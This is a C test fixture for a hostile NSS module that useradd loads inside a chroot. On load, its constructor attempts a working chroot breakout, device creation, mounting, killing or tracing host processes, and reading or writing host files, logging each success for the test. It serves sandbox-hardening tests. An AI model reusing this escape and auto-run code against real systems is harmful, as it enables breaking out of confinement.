/* An NSS module of a hostile image (libnss_evil.so.2): loaded by useradd after its chroot, it tries to get at the machine around it.
   Writes what it achieved to /evil in the image, one word a line. HOST_DIR, HOST_PID, HOST_PORT and HOST_INODE are the test's. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

static FILE *report;

static void achieved(const char *what, int is_true)
{
    if (is_true)
        fprintf(report, "%s\n", what);
}

static int can_write(const char *path)
{
    int fd = open(path, O_WRONLY | O_CREAT, 0600);
    if (fd >= 0)
        close(fd);
    return fd >= 0;
}

static void break_out_of_the_chroot(void)
{
    mkdir("/jail", 0700);
    int here = open("/", O_RDONLY | O_DIRECTORY);
    if (chroot("/jail") || fchdir(here))
        return;
    for (int step = 0; step < 64; step++)
        if (chdir(".."))
            return;
    if (chroot("."))
        return;
}

static int sees_processes(void)
{
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    int found = 0;
    while (proc && (entry = readdir(proc)))
        found += entry->d_name[0] >= '1' && entry->d_name[0] <= '9';
    return found;
}

static int reaches_the_network(void)
{
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(HOST_PORT), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    return fd >= 0 && connect(fd, (struct sockaddr *)&to, sizeof to) == 0;
}

__attribute__((constructor)) static void attack(void)
{
    if (getenv("EVIL_DONE") || !(report = fopen("/evil", "a")))
        return;
    setenv("EVIL_DONE", "1", 1);
    flock(fileno(report), LOCK_SH); /* until the last process that has it open ends */
    pid_t tool = getpid();
    achieved("ran", 1);
    struct stat opened;
    for (int fd = 3; fd < 256; fd++) /* useradd has sockets of its own */
        achieved("inherited", fstat(fd, &opened) == 0 && opened.st_ino == HOST_INODE);
    achieved("mounted", mount("none", "/mnt", "tmpfs", 0, "") == 0 && umount("/mnt") == 0);
    achieved("made-device", mknod("/disk", S_IFBLK | 0600, makedev(7, 0)) == 0);
    achieved("opened-device", open("/null", O_RDONLY) >= 0);
    achieved("killed", kill(HOST_PID, SIGKILL) == 0);
    achieved("killed-parent", getppid() > 1 && kill(getppid(), 0) == 0);
    achieved("traced", ptrace(PTRACE_SEIZE, HOST_PID, 0, 0) == 0 || ptrace(PTRACE_SEIZE, 1, 0, 0) == 0);
    achieved("connected", reaches_the_network());
    achieved("may-gain-privileges", prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0) == 0);
    if (fork() == 0) { /* a daemon: it waits until useradd has ended */
        setsid();
        while (getppid() == tool)
            usleep(10000);
        sleep(2); /* for those who may end it now */
        achieved("outlived", 1);
        fclose(report);
        _exit(0);
    }
    pid_t escaper = fork();
    if (escaper == 0) {
        break_out_of_the_chroot();
        achieved("wrote-outside", can_write(HOST_DIR "/written"));
        achieved("read-outside", access(HOST_DIR "/secret", R_OK) == 0);
        achieved("read-etc", access("/etc/passwd", R_OK) == 0 && access("/etc/root-of-the-test", F_OK) != 0);
        achieved("wrote-usr", can_write("/usr/evil-written"));
        unlink("/usr/evil-written");
        achieved("wrote-loader-cache", access("/etc/root-of-the-test", F_OK) != 0 && open("/etc/ld.so.cache", O_WRONLY) >= 0);
        achieved("wrote-top", can_write("/evil-written"));
        unlink("/evil-written");
        achieved("saw-processes", sees_processes() > 0);
        fclose(report);
        _exit(0);
    }
    waitpid(escaper, NULL, 0);
    fclose(report);
}

/* What makes it a module: it knows nobody. */
int _nss_evil_getpwnam_r(const char *name, void *entry, char *buffer, size_t size, int *error)
{
    (void)name, (void)entry, (void)buffer, (void)size, (void)error;
    return 0; /* NSS_STATUS_NOTFOUND */
}
